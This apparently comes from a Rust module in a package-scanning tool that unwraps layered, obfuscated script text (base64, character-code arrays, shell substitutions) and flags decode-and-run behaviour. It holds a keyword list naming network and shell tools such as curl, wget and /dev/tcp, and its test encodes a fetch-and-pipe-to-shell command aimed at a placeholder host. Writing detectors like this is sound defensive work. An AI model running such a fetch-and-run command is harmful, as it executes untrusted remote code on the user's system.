//! One piece of script text, folded and looked at, and the layers inside of it.

use std::ops::Range;

use packguard_sdk::decode::{Layer, LayerLimits, layers_within};
use packguard_sdk::indicators::{Indicator, scan};

use crate::deeds::{self, Act, Deed};
use crate::fold::{self, Folded};
use crate::kind::{Language, sniff};
use crate::text::Text;

/// Most texts looked at that one snippet holds, all layers together.
const UNITS: usize = 200;

/// Deepest layer.
const DEPTH: usize = 8;

/// Bytes of layers looked at in one snippet.
const BYTES: usize = 8 << 20;

/// Shortest layer looked at, in bytes.
const SHORTEST: usize = 6;

/// Ways of making a text that hide nothing.
const PLAIN: &[&str] = &[
    "echo",
    "eval",
    "substitution",
    "sed",
    "PowerShell expression",
];

/// A text with its acts.
#[derive(Debug)]
pub struct Unit {
    /// Put together.
    pub text: Text,
    /// What it does.
    pub acts: Vec<Act>,
    /// What it points at.
    pub indicators: Vec<Indicator>,
    /// Layers taken off to get here.
    pub layers: Vec<Layer>,
    /// Where the outermost layer stands in the file.
    pub outer: Option<Range<usize>>,
    /// It is handed to an interpreter where it is made.
    pub runs: bool,
    /// Words that were put together.
    pub rewritten: usize,
}

/// A text that waits to be looked at.
struct Waiting {
    text: Text,
    language: Language,
    layers: Vec<Layer>,
    outer: Option<Range<usize>>,
    runs: bool,
}

/// Looks at a text and at all it holds. The flag says that a bound was reached.
pub fn units(text: &Text, language: Language) -> (Vec<Unit>, bool) {
    let mut cut = false;
    let mut done: Vec<Unit> = Vec::new();
    let mut bytes = 0;
    let mut waiting = vec![Waiting {
        text: text.clone(),
        language,
        layers: Vec::new(),
        outer: None,
        runs: true,
    }];
    while let Some(next) = waiting.pop() {
        bytes += next.text.text.len();
        if done.len() >= UNITS || !next.layers.is_empty() && bytes > BYTES {
            cut = true;
            break;
        }
        let folded = fold(&next.text, next.language);
        cut |= folded.cut;
        let unit = look(&next, &folded);
        if next.layers.len() < DEPTH {
            inner(&next, &folded, &unit, &mut waiting);
        } else {
            cut = true;
        }
        done.push(unit);
    }
    (done, cut)
}

fn fold(text: &Text, language: Language) -> Folded {
    match language {
        Language::Shell => fold::shell::fold(text),
        Language::PowerShell => fold::powershell::fold(text),
        Language::Batch => fold::batch::fold(text),
        Language::VbScript => fold::vbscript::fold(text),
        Language::AppleScript => Folded {
            text: text.clone(),
            ..Folded::default()
        },
    }
}

fn look(waiting: &Waiting, folded: &Folded) -> Unit {
    let text = &folded.text.text;
    let mut acts = match waiting.language {
        Language::Shell => {
            let mut found = deeds::shell::acts(text);
            found.extend(deeds::flow::acts(text));
            found
        }
        Language::Batch => {
            let mut found = deeds::shell::acts(text);
            found.extend(deeds::shell::encoded(text));
            found
        }
        Language::PowerShell => deeds::powershell::acts(text),
        Language::VbScript => deeds::vbscript::acts(text),
        Language::AppleScript => {
            let mut found = Vec::new();
            deeds::vbscript::literals(text, &mut found);
            found
        }
    };
    acts.extend(deeds::words::acts(text));
    let hides = waiting
        .layers
        .last()
        .is_some_and(|layer| !PLAIN.contains(&layer.encoding));
    if waiting.runs && hides {
        acts.push(Act::new(Deed::DecodeRun, 0..text.floor_char_boundary(200)));
    }
    Unit {
        indicators: scan(text),
        text: folded.text.clone(),
        acts,
        layers: waiting.layers.clone(),
        outer: waiting.outer.clone(),
        runs: waiting.runs,
        rewritten: folded.rewritten,
    }
}

/// Adds the texts that a text makes or holds.
fn inner(outer: &Waiting, folded: &Folded, unit: &Unit, waiting: &mut Vec<Waiting>) {
    let mut add = |range: &Range<usize>, how: &[Layer], text: &str, runs: bool| {
        let plain = text.trim();
        if plain.len() < SHORTEST
            || plain == folded.text.text.trim()
            || plain == outer.text.text.trim()
        {
            return;
        }
        let place = outer
            .outer
            .clone()
            .unwrap_or_else(|| folded.text.place(range));
        let mut layers = outer.layers.clone();
        layers.extend_from_slice(how);
        waiting.push(Waiting {
            text: Text::of(text, 0),
            language: sniff(text),
            layers,
            outer: Some(place),
            runs,
        });
    };
    for made in folded.made.iter().take(UNITS) {
        let layer = Layer {
            encoding: encoding(&made.how),
            text: made.text.as_str().into(),
        };
        add(&made.range, &[layer], &made.text, made.runs);
    }
    for act in &unit.acts {
        if let Some(decoded) = &act.decoded {
            let layer = Layer {
                encoding: "base64",
                text: decoded.as_str().into(),
            };
            add(&act.range, &[layer], decoded, true);
        }
    }
    for (range, plain) in codes(&folded.text.text) {
        if looks_like_script(&plain) {
            let layer = Layer {
                encoding: "character codes",
                text: plain.as_str().into(),
            };
            add(&range, &[layer], &plain, false);
        }
    }
    let limits = LayerLimits {
        depth: 4,
        total: BYTES / 2,
        runs: 2_000,
    };
    for found in layers_within(&folded.text.text, limits).take(UNITS) {
        if looks_like_script(found.text()) {
            add(&found.range, &found.layers, found.text(), false);
        }
    }
}

/// A name for how a text came to be that lives as long as the program.
fn encoding(how: &str) -> &'static str {
    let known = [
        "base64",
        "rev",
        "xxd",
        "tr",
        "escapes",
        "eval",
        "echo",
        "PowerShell expression",
        "VBScript expression",
        "openssl",
        "cut",
        "sed",
    ];
    known
        .into_iter()
        .find(|one| how.split(", ").last() == Some(one))
        .or_else(|| known.into_iter().find(|one| how.contains(one)))
        .unwrap_or("substitution")
}

/// Whether decoded text seems to be commands and not a key, a certificate, a picture.
fn looks_like_script(text: &str) -> bool {
    let lower = packguard_sdk::text::cut(text, 16_384).to_ascii_lowercase();
    let words = [
        "curl",
        "wget",
        "/bin/",
        "bash",
        "powershell",
        "http://",
        "https://",
        "eval",
        "exec",
        "chmod",
        "import ",
        "invoke-",
        "/dev/tcp",
        "echo ",
        "cmd",
        "iex",
        "$env",
        "createobject",
        "new-object",
        "base64",
        "sudo",
        "nohup",
        "rm -",
        "require(",
        "python",
    ];
    words.iter().any(|word| lower.contains(word))
}

/// Fewest numbers that are a text and not a table.
const CODES: usize = 16;

/// Texts written as lists of character codes, with where they stand.
fn codes(text: &str) -> Vec<(Range<usize>, String)> {
    let mut found = Vec::new();
    let (mut plain, mut start, mut at) = (String::new(), 0, 0);
    for part in text.split_inclusive(',') {
        let place = at;
        at += part.len();
        // What stands before the first number belongs to no list: `Array(112`.
        let number = part.trim_end_matches(',').trim();
        let first = number.rsplit(|c: char| !c.is_ascii_alphanumeric()).next();
        let last = number.split(|c: char| !c.is_ascii_alphanumeric()).next();
        let whole = code(number);
        if whole.is_none() && plain.len() + 1 >= CODES {
            plain.extend(last.and_then(code));
            found.push((start..at, std::mem::take(&mut plain)));
        }
        match whole.or_else(|| first.and_then(code)) {
            Some(c) => {
                if whole.is_none() || plain.is_empty() {
                    plain.clear();
                    start = place;
                }
                plain.push(c);
            }
            None => plain.clear(),
        }
        if found.len() >= UNITS {
            return found;
        }
    }
    if plain.len() >= CODES {
        found.push((start..at, plain));
    }
    found
}

/// The printable character of a number, decimal or `0x…`.
fn code(number: &str) -> Option<char> {
    let value = match number.strip_prefix("0x") {
        Some(digits) => u8::from_str_radix(digits, 16).ok()?,
        None => number.parse().ok()?,
    };
    let c = char::from(value);
    (c.is_ascii_graphic() || matches!(c, ' ' | '\n' | '\r' | '\t')).then_some(c)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lists_of_codes_are_read() {
        let hidden = "curl http://a.example/x | sh";
        let list: Vec<String> = hidden.bytes().map(|byte| byte.to_string()).collect();
        let text = format!("a = Array({}) : b = 1", list.join(", "));
        assert_eq!(codes(&text)[0].1, hidden);
        assert!(codes("f(1, 2, 3), g(65, 66)").is_empty());
    }
}
